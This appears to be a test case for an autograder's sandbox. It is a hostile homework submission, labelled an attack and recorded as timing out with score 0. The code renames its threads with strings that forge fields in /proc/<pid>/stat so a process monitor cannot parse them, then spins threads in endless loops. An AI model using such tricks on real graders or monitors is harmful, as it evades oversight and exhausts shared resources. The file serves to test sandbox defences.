# attack: renames itself so that its line in /proc cannot be read, and computes in threads
# assignment: hw
# exercise: square
# status: timeout
# score: 0
import ctypes
import threading

libc = ctypes.CDLL(None)
libc.prctl(15, b") R 0 0 0\n 0 0", 0, 0, 0)  # PR_SET_NAME


def square(x):
    def work():
        libc.prctl(15, b")) 0 0 (", 0, 0, 0)
        while True:
            pass

    threads = [threading.Thread(target=work) for _ in range(3)]
    for thread in threads:
        thread.start()
    threads[0].join()
